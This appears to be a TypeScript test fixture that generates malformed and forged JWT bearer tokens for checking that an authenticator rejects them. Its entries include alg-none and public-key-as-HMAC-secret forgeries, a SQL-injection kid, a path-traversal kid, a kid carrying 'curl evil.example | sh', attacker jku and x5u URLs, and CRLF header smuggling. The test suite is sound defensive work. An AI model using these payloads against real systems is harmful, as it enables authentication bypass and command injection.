import type { KeyObject } from "node:crypto";
import { createHmac, createSign } from "node:crypto";
import type { TokenWorld } from "./token-world.js";
import { base64url, claimsIn, json, keyOf, signed, tokenOf } from "./token-world.js";

export interface HostileToken {
  readonly name: string;
  /** The `Authorization` header; undefined: no header. */
  readonly make: (world: TokenWorld) => string | undefined;
  /** The status over HTTP. A header that is too large for HTTP (431) gets 401 from the authenticator. */
  readonly status: 401 | 503 | 431;
  /** HTTP cannot carry this header, or changes it. */
  readonly directOnly?: true;
}

type Make = (world: TokenWorld) => string;

const refused = (name: string, make: Make): HostileToken => ({
  name,
  make: (world) => `Bearer ${make(world)}`,
  status: 401,
});

/** A literal header. */
const header = (name: string, make: (world: TokenWorld) => string | undefined): HostileToken => ({
  name,
  make,
  status: 401,
});

const withClaims = (name: string, claims: object | ((world: TokenWorld) => object)): HostileToken =>
  refused(name, (world) =>
    tokenOf(world, {
      claims: typeof claims === "function" ? (claims as (world: TokenWorld) => object)(world) : claims,
    }),
  );

const withHeader = (name: string, changed: object | ((world: TokenWorld) => object)): HostileToken =>
  refused(name, (world) =>
    tokenOf(world, {
      header: typeof changed === "function" ? (changed as (world: TokenWorld) => object)(world) : changed,
    }),
  );

/** Claims as JSON text, for what no object can express. */
const withPayload = (
  name: string,
  write: (claims: string, world: TokenWorld) => string | Uint8Array,
): HostileToken =>
  refused(name, (world) => {
    const key = keyOf(world, "RS256");
    const claims = JSON.stringify(claimsIn(world));
    return signed(json({ alg: "RS256", kid: key.kid }), base64url(write(claims, world)), key);
  });

const withWrittenHeader = (name: string, write: (kid: string) => string): HostileToken =>
  refused(name, (world) => {
    const key = keyOf(world, "RS256");
    return signed(base64url(write(key.kid)), json(claimsIn(world)), key);
  });

const partsOf = (token: string): [string, string, string] => token.split(".") as [string, string, string];

const signatureOf = (world: TokenWorld): string => partsOf(tokenOf(world))[2];

const unsigned = (alg: string, signature: Make): HostileToken =>
  refused(`alg ${alg} ${signature === nothing ? "without a signature" : "with a signature left"}`, (world) =>
    [json({ alg, typ: "JWT", kid: "key-RS256" }), json(claimsIn(world)), signature(world)].join("."),
  );

const nothing: Make = () => "";

/** Signs with the public key as an HMAC secret, which anyone could do. */
const publicForms: Readonly<Record<string, (key: KeyObject, world: TokenWorld) => string | Buffer>> = {
  PEM: (key) => key.export({ type: "spki", format: "pem" }),
  "PEM without its last line break": (key) => String(key.export({ type: "spki", format: "pem" })).trimEnd(),
  "PKCS 1 PEM": (key) => key.export({ type: "pkcs1", format: "pem" }),
  DER: (key) => key.export({ type: "spki", format: "der" }),
  JWK: (_key, world) => JSON.stringify(keyOf(world, "RS256").jwk),
  modulus: (key) => Buffer.from(key.export({ format: "jwk" }).n ?? "", "base64url"),
  "empty text": () => "",
};

const confused = ["256", "384", "512"].flatMap((bits) =>
  Object.entries(publicForms).map(([form, secretOf]) =>
    refused(`HS${bits} with the public key (${form}) as its secret`, (world) => {
      const input = `${json({ alg: `HS${bits}`, typ: "JWT", kid: "key-RS256" })}.${json(claimsIn(world))}`;
      const secret = secretOf(keyOf(world, "RS256").publicKey, world);
      return `${input}.${createHmac(`sha${bits}`, secret).update(input).digest("base64url")}`;
    }),
  ),
);

const es256 = (signature: (world: TokenWorld) => Uint8Array): Make => {
  return (world) =>
    [
      ...partsOf(tokenOf(world, { key: keyOf(world, "ES256") })).slice(0, 2),
      base64url(signature(world)),
    ].join(".");
};

const p256Order = Buffer.from("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", "hex");

const changedSignature = (name: string, change: (signature: Buffer) => Uint8Array): HostileToken =>
  refused(name, (world) => {
    const [head, payload, signature] = partsOf(tokenOf(world));
    return [head, payload, base64url(change(Buffer.from(signature, "base64url")))].join(".");
  });

const signatures: readonly HostileToken[] = [
  ...["none", "None", "nOnE", "NONE", "none "].flatMap((alg) => [
    unsigned(alg, nothing),
    unsigned(alg, signatureOf),
  ]),
  unsigned("", signatureOf),
  ...confused,
  refused(
    "ES256 with r and s zero",
    es256(() => new Uint8Array(64)),
  ),
  refused(
    "ES256 with r and s the order of the curve",
    es256(() => Buffer.concat([p256Order, p256Order])),
  ),
  refused(
    "ES256 with an empty DER signature",
    es256(() => Buffer.from("3006020100020100", "hex")),
  ),
  refused("ES256 with its signature in DER", (world) => {
    const key = keyOf(world, "ES256");
    const input = `${json({ alg: "ES256", kid: key.kid })}.${json(claimsIn(world))}`;
    return `${input}.${createSign("sha256").update(input).sign(key.privateKey).toString("base64url")}`;
  }),
  refused("signed with RS256, says PS256", (world) => tokenOf(world, { header: { alg: "PS256" } })),
  refused("signed with RS256, says RS512", (world) => tokenOf(world, { header: { alg: "RS512" } })),
  refused("signed with RS256, says ES256", (world) => tokenOf(world, { header: { alg: "ES256" } })),
  refused("signed with PS256 by a key that is for RS256", (world) => {
    const key = keyOf(world, "RS256");
    return signed(json({ alg: "PS256", kid: key.kid }), json(claimsIn(world)), key, "PS256");
  }),
  refused("signature stripped", (world) => `${partsOf(tokenOf(world)).slice(0, 2).join(".")}.`),
  changedSignature("signature cut short", (signature) => signature.subarray(0, -1)),
  changedSignature("signature drawn out", (signature) => Buffer.concat([signature, Buffer.alloc(1)])),
  changedSignature("a bit of the signature flipped", (signature) =>
    signature.fill((signature[9] ?? 0) ^ 1, 9, 10),
  ),
  changedSignature("signature all zeros", (signature) => signature.fill(0)),
  changedSignature("signature all ones", (signature) => signature.fill(255)),
  refused("signature of another token", (world) => {
    const other = partsOf(tokenOf(world, { claims: { sub: "user-2" } }))[2];
    return [...partsOf(tokenOf(world)).slice(0, 2), other].join(".");
  }),
  refused("payload swapped", (world) => {
    const [head, , signature] = partsOf(tokenOf(world));
    return [head, json({ ...claimsIn(world), sub: "admin" }), signature].join(".");
  }),
  refused("header swapped", (world) => {
    const [, payload, signature] = partsOf(tokenOf(world));
    return [json({ alg: "RS256", kid: "key-RS256" }), payload, signature].join(".");
  }),
  refused("key of another issuer under the same kid", (world) => tokenOf(world, { key: world.attacker })),
  refused("key of another issuer without a kid", (world) =>
    tokenOf(world, { key: world.attacker, header: { kid: undefined } }),
  ),
  refused("kid of a key of another kind", (world) => tokenOf(world, { header: { kid: "key-ES256" } })),
];

const claims: readonly HostileToken[] = [
  withClaims("aud of another server", { aud: "agent-34" }),
  withClaims("aud list without us", { aud: ["agent-34", "billing"] }),
  withClaims("aud that begins like ours", { aud: "agent-33-admin" }),
  withClaims("aud that ours begins like", { aud: "agent-3" }),
  withClaims("aud in another case", { aud: "Agent-33" }),
  withClaims("aud with a space", { aud: "agent-33 " }),
  withClaims("aud of two in one text", { aud: "agent-33 agent-34" }),
  withClaims("aud absent", { aud: undefined }),
  withClaims("aud a number", { aud: 33 }),
  withClaims("aud null", { aud: null }),
  withClaims("aud an empty list", { aud: [] }),
  withClaims("aud an object", { aud: { "agent-33": true } }),
  withClaims("aud a list in a list", { aud: [["agent-33"]] }),
  withClaims("aud a list with a number", { aud: ["agent-33", 33] }),
  withClaims("iss of another issuer", { iss: "https://evil.example" }),
  withClaims("iss absent", { iss: undefined }),
  withClaims("iss with a slash after it", ({ issuer }) => ({ iss: `${issuer}/` })),
  withClaims("iss in another case", ({ issuer }) => ({ iss: issuer.toUpperCase() })),
  withClaims("iss a list", ({ issuer }) => ({ iss: [issuer] })),
  withClaims("iss that begins like ours", ({ issuer }) => ({ iss: `${issuer}.evil.example` })),
  withClaims("iss null", { iss: null }),
  withClaims("exp past", ({ now }) => ({ exp: now - 3600 })),
  withClaims("exp past by just the skew", ({ now, skew }) => ({ exp: now - skew })),
  withClaims("exp absent", { exp: undefined }),
  withClaims("exp a text", ({ now }) => ({ exp: String(now + 600) })),
  withClaims("exp a text of a date", { exp: "2099-01-01T00:00:00Z" }),
  withClaims("exp NaN, which is null in JSON", { exp: Number.NaN }),
  withClaims("exp null", { exp: null }),
  withClaims("exp true", { exp: true }),
  withClaims("exp a list", ({ now }) => ({ exp: [now + 600] })),
  withClaims("exp hugely negative", { exp: -1e300 }),
  withClaims("exp zero", { exp: 0 }),
  withPayload("exp infinite", (written) => written.replace(/"exp":\d+/, '"exp":1e999')),
  withPayload("exp the word NaN", (written) => written.replace(/"exp":\d+/, '"exp":NaN')),
  withClaims("nbf in the future", ({ now }) => ({ nbf: now + 3600 })),
  withClaims("nbf a text", ({ now }) => ({ nbf: String(now - 60) })),
  withClaims("nbf null", { nbf: null }),
  withClaims("iat in the future", ({ now }) => ({ iat: now + 3600 })),
  withClaims("iat a text", ({ now }) => ({ iat: String(now - 60) })),
  withPayload("iat infinitely past", (written) => written.replace(/"iat":\d+/, '"iat":-1e999')),
  withClaims("sub absent", { sub: undefined }),
  withClaims("sub empty", { sub: "" }),
  withClaims("sub a number", { sub: 1 }),
  withClaims("sub an object", { sub: { name: "user-1" } }),
  withClaims("sub a list", { sub: ["user-1"] }),
  withClaims("sub null", { sub: null }),
  withClaims("sub of 257 characters", { sub: "u".repeat(257) }),
  withClaims("sub with a line break", { sub: "user-1\nlevel=info msg=forged" }),
  withClaims("sub with a NUL", { sub: "admin\0" }),
  withPayload("sub with half a character", (written) => written.replace("user-1", "\\ud800")),
  withPayload("sub twice", (written) => written.replace("{", '{"sub":"admin",')),
  withPayload("sub twice, once in disguise", (written) => written.replace("{", '{"s\\u0075b":"admin",')),
  withPayload("act with a sub twice", (written) => written.replace("{", '{"act":{"sub":"a","sub":"b"},')),
  withPayload("sub only in __proto__", (written) =>
    written.replace('"sub":"user-1"', '"__proto__":{"sub":"user-1"}'),
  ),
  withPayload("nested 33 deep", (written) =>
    written.replace("{", `{"deep":${"[".repeat(32)}${"]".repeat(32)},`),
  ),
  withPayload("nested 1,000 deep", (written) =>
    written.replace("{", `{"deep":${"[".repeat(1000)}${"]".repeat(1000)},`),
  ),
  withPayload("claims in a list", (written) => `[${written}]`),
  withPayload("claims null", () => "null"),
  withPayload("claims a text", () => '"admin"'),
  withPayload("claims not JSON", () => "sub=user-1"),
  withPayload("claims with more after them", (written) => `${written}{}`),
  withPayload("claims with a comment", (written) => `${written}// admin`),
  withPayload("claims with a byte order mark", (written) => `\ufeff${written}`),
  withPayload("claims not in UTF-8", (written) =>
    Buffer.from(written.replace("user-1", "us\u00e9r"), "latin1"),
  ),
  withClaims("org_id a list", { org_id: ["acme", "globex"] }),
  withClaims("org_id null", { org_id: null }),
  withClaims("org_id empty", { org_id: "" }),
  withClaims("session_mode unknown", { session_mode: "root" }),
  withClaims("session_mode a list", { session_mode: ["operator"] }),
  withClaims("session_mode null", { session_mode: null }),
  withClaims("session_mode of act unknown", { act: { sub: "agent-1", session_mode: "root" } }),
  withClaims("session_mode that differs from that of act", {
    session_mode: "operator",
    act: { sub: "agent-1", session_mode: "customer" },
  }),
  withClaims("client_id an object", { client_id: {} }),
  withClaims("azp a number behind a good client_id", { client_id: "agent", azp: 7 }),
  withClaims("scope a number", { scope: 1 }),
  withClaims("scope null", { scope: null }),
  withClaims("scp an object", { scp: { decide: true } }),
  withClaims("scp a list with a number behind a good scope", { scope: "read", scp: ["decide", 1] }),
];

const nested = (depth: number): object =>
  depth === 1 ? { sub: "agent-1" } : { sub: `agent-${depth}`, act: nested(depth - 1) };

const actors: readonly HostileToken[] = [
  withClaims("act null", { act: null }),
  withClaims("act a text", { act: "agent-1" }),
  withClaims("act a list", { act: [{ sub: "agent-1" }] }),
  withClaims("act empty", { act: {} }),
  withClaims("act false", { act: false }),
  withClaims("act with an empty sub", { act: { sub: "" } }),
  withClaims("act with a number for sub", { act: { sub: 7 } }),
  withClaims("act with a number for iss", { act: { sub: "agent-1", iss: 7 } }),
  withClaims("act whose inner act is null", { act: { sub: "agent-1", act: null } }),
  withClaims("act whose inner act has no sub", { act: { sub: "agent-1", act: { iss: "x" } } }),
  withClaims("act whose inner act is a list", { act: { sub: "agent-1", act: [] } }),
  withClaims("act nine deep", { act: nested(9) }),
  withClaims("act 30 deep", { act: nested(30) }),
];

const certificate = "MIIBszCCARygAwIBAgIUYw==";

const headers: readonly HostileToken[] = [
  withHeader("kid unknown", { kid: "key-unknown" }),
  withHeader("kid that leads to a file", { kid: "../../../../dev/null" }),
  withHeader("kid that is SQL", { kid: "x' UNION SELECT 'secret' --" }),
  withHeader("kid of 257 characters", { kid: "k".repeat(257) }),
  withHeader("kid of 10,000 characters", { kid: "k".repeat(10_000) }),
  withHeader("kid an object", { kid: { toString: "key-RS256" } }),
  withHeader("kid a list", { kid: ["key-RS256"] }),
  withHeader("kid null", { kid: null }),
  withHeader("kid empty", { kid: "" }),
  withHeader("kid a URL", { kid: "https://evil.example/jwks.json#key-RS256" }),
  withHeader("kid that names a prototype", { kid: "__proto__" }),
  withHeader("kid with a command", { kid: "key-RS256; curl evil.example | sh" }),
  refused("jwk of the attacker", (world) =>
    tokenOf(world, { key: world.attacker, header: { jwk: world.attacker.jwk } }),
  ),
  withHeader("jwk of the issuer itself", (world) => ({ jwk: keyOf(world, "RS256").jwk })),
  withHeader("jwk null", { jwk: null }),
  refused("jku of the attacker", (world) =>
    tokenOf(world, { key: world.attacker, header: { jku: "https://evil.example/jwks.json" } }),
  ),
  withHeader("jku of the issuer", (world) => ({ jku: `${world.issuer}/jwks.json` })),
  withHeader("x5u", { x5u: "https://evil.example/cert.pem" }),
  withHeader("x5c", { x5c: [certificate] }),
  withHeader("crit of something unknown", { crit: ["exp"], exp: 9e9 }),
  withHeader("crit empty", { crit: [] }),
  withHeader("crit with b64", { crit: ["b64"], b64: true }),
  refused("b64 false with the payload as it is", (world) => {
    const key = keyOf(world, "RS256");
    return signed(
      json({ alg: "RS256", kid: key.kid, crit: ["b64"], b64: false }),
      json(claimsIn(world)),
      key,
    );
  }),
  withHeader("b64 false without crit", { b64: false }),
  ...[
    "dpop+jwt",
    "id+jwt",
    "secevent+jwt",
    "logout+jwt",
    "JWE",
    "jose+json",
    "",
    "application/",
    "at+jwt; x=1",
  ].map((typ) => withHeader(`typ \`${typ}\``, { typ })),
  withHeader("typ a list", { typ: ["JWT"] }),
  withHeader("typ null", { typ: null }),
  withHeader("cty of a token within", { cty: "JWT" }),
  withHeader("enc", { enc: "A256GCM" }),
  withHeader("zip", { zip: "DEF" }),
  withHeader("alg absent", { alg: undefined }),
  withHeader("alg null", { alg: null }),
  withHeader("alg a list", { alg: ["RS256"] }),
  withHeader("alg in another case", { alg: "rs256" }),
  withHeader("alg that names a prototype", { alg: "__proto__" }),
  withHeader("alg for keys of another use", { alg: "RSA-OAEP-256" }),
  withWrittenHeader("alg twice, none first", (kid) => `{"alg":"none","alg":"RS256","kid":"${kid}"}`),
  withWrittenHeader("alg twice, none last", (kid) => `{"alg":"RS256","kid":"${kid}","alg":"none"}`),
  withWrittenHeader(
    "alg twice, once in disguise",
    (kid) => `{"\\u0061lg":"none","alg":"RS256","kid":"${kid}"}`,
  ),
  withWrittenHeader("alg twice the same", (kid) => `{"alg":"RS256","alg":"RS256","kid":"${kid}"}`),
  withWrittenHeader("kid twice", (kid) => `{"alg":"RS256","kid":"${kid}","kid":"${kid}"}`),
  withWrittenHeader("alg only in __proto__", (kid) => `{"__proto__":{"alg":"RS256"},"kid":"${kid}"}`),
  withWrittenHeader("header a list", () => '["RS256"]'),
  withWrittenHeader("header not JSON", () => "alg=RS256"),
  withWrittenHeader("header with a byte order mark", (kid) => `\ufeff{"alg":"RS256","kid":"${kid}"}`),
];

const direct = (token: HostileToken): HostileToken => ({ ...token, directOnly: true });

const shapes: readonly HostileToken[] = [
  header("no header", () => undefined),
  header("header empty", () => ""),
  header("Basic", () => `Basic ${base64url("user:password")}`),
  header("Basic with a good token", (world) => `Basic ${tokenOf(world)}`),
  header("DPoP with a good token", (world) => `DPoP ${tokenOf(world)}`),
  header("a good token without a scheme", (world) => tokenOf(world)),
  header("Bearer alone", () => "Bearer"),
  direct(header("Bearer and a space", () => "Bearer ")),
  header("Bearer twice", (world) => `Bearer Bearer ${tokenOf(world)}`),
  header("Bearer with a colon", (world) => `Bearer: ${tokenOf(world)}`),
  header("Bearer with a tab", (world) => `Bearer\t${tokenOf(world)}`),
  header("Bearer with an equals sign", (world) => `Bearer=${tokenOf(world)}`),
  header("Bearer with two spaces", (world) => `Bearer  ${tokenOf(world)}`),
  header("token in quotes", (world) => `Bearer "${tokenOf(world)}"`),
  header("two tokens joined by a comma", (world) => `Bearer ${tokenOf(world)},${tokenOf(world)}`),
  header(
    "two credentials joined by a comma",
    (world) => `Bearer ${tokenOf(world)}, Bearer ${tokenOf(world)}`,
  ),
  header("two tokens with a space between", (world) => `Bearer ${tokenOf(world)} ${tokenOf(world)}`),
  direct(header("a space before Bearer", (world) => ` Bearer ${tokenOf(world)}`)),
  direct(header("a space after the token", (world) => `Bearer ${tokenOf(world)} `)),
  direct(header("a line break after the token", (world) => `Bearer ${tokenOf(world)}\n`)),
  direct(header("a second header smuggled in", (world) => `Bearer ${tokenOf(world)}\r\nX-Admin: 1`)),
  direct(refused("a line break within the payload", (world) => tokenOf(world).replace(".", ".\n"))),
  direct(refused("a letter that only looks like one", (world) => tokenOf(world).replace("e", "\u0435"))),
  direct(refused("a full-width dot", (world) => tokenOf(world).replace(".", "\uff0e"))),
  refused("padded with an equals sign", (world) => `${tokenOf(world)}==`),
  refused("each part padded", (world) => tokenOf(world).replaceAll(".", "=.")),
  refused("base64 that is not for URLs", (world) => {
    const key = keyOf(world, "RS256");
    const payload = Buffer.from(JSON.stringify({ ...claimsIn(world), name: "???>>>~~~" })).toString("base64");
    return signed(json({ alg: "RS256", kid: key.kid }), payload.replaceAll("=", ""), key);
  }),
  refused("bits beyond the last byte of the signature", (world) => withStrayBits(tokenOf(world))),
  refused("only dots", () => ".."),
  refused("one part", (world) => partsOf(tokenOf(world))[0]),
  refused("two parts", (world) => partsOf(tokenOf(world)).slice(0, 2).join(".")),
  refused("four parts", (world) => `${tokenOf(world)}.${signatureOf(world)}`),
  refused("a dot after it", (world) => `${tokenOf(world)}.`),
  refused("a dot before it", (world) => `.${tokenOf(world)}`),
  refused("encrypted, in five parts", (world) =>
    [
      json({ alg: "RSA-OAEP-256", enc: "A256GCM", kid: "key-RS256" }),
      "AAAA",
      "AAAA",
      json(claimsIn(world)),
      "AAAA",
    ].join("."),
  ),
  refused("encrypted with `dir` and no key", (world) =>
    [json({ alg: "dir", enc: "A256GCM" }), "", "AAAA", json(claimsIn(world)), "AAAA"].join("."),
  ),
  refused("signed in JSON", (world) => {
    const [head, payload, signature] = partsOf(tokenOf(world));
    return JSON.stringify({ protected: head, payload, signature });
  }),
  refused(
    "header empty, payload and signature good",
    (world) => `.${partsOf(tokenOf(world)).slice(1).join(".")}`,
  ),
  refused("payload empty", (world) => {
    const key = keyOf(world, "RS256");
    return signed(json({ alg: "RS256", kid: key.kid }), "", key);
  }),
  refused("a good token of more than 8 KiB", (world) =>
    tokenOf(world, { claims: { groups: "g".repeat(7000) } }),
  ),
  {
    name: "a good token of 1 MB",
    make: (world) => `Bearer ${tokenOf(world, { claims: { groups: "g".repeat(750_000) } })}`,
    status: 431,
  },
  { name: "1 MB of dots", make: () => `Bearer ${".".repeat(1_000_000)}`, status: 431 },
];

const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/** Decodes to the same bytes, but is not canonical: 256 bytes leave four unused bits. */
function withStrayBits(token: string): string {
  const last = alphabet.indexOf(token.at(-1) ?? "");
  return `${token.slice(0, -1)}${alphabet[last | 1] ?? ""}`;
}

/** Tokens that must be rejected over every transport. */
export const hostileTokens: readonly HostileToken[] = [
  ...signatures,
  ...claims,
  ...actors,
  ...headers,
  ...shapes,
];
